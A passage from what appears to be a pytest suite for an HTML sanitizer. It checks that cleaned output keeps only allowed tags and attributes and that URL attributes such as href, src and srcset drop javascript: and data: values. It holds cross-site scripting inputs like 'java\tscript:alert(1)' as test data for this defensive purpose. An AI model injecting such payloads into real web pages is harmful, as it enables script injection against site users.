            assert name in ALLOWABLE_TAGS | {"DOCUMENT_FRAGMENT"}, (vector, result)
            for attribute, value in element.attrib.items():
                assert attribute in ALLOWABLE_ATTRIBUTES | {"id", "alttext", "encoding"} | MATHML_ATTRIBUTES, (vector, result)
                if attribute in ("href", "cite"):
                    assert LINK.match(value), (vector, result)
                elif attribute in ("src", "poster", "srcset"):
                    assert RESOURCE.match(value.split(" ")[0].rstrip(",")), (vector, result)


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize("attribute", ["href", "src", "srcset", "poster", "cite"])
def test_an_address_is_checked_wherever_it_is_allowed(attribute: str, backend: str) -> None:
    """On an element that has none by itself: resolved, or gone; a site that allows it is published."""
    policy = Policy(backend=backend, allow_attributes={"p": (attribute,)})
    for value in (
        J,
        "java\tscript:alert(1)",
        "data:text/html,x",
        "http://[",
        *([f"/a.png 1x, {J} 2x"] if attribute == "srcset" else []),
    ):
        result = content.clean(f"<p {attribute}='{value}'>x</p>", "html", base_url=BASE, policy=policy).html
        assert "script" not in result and "data:" not in result and "[" not in result, result
    result = content.clean(f"<p {attribute}='a.png'>x</p>", "html", base_url=BASE, policy=policy).html
    assert result in ("<p>x</p>", f'<p {attribute}="{BASE}a.png">x</p>')
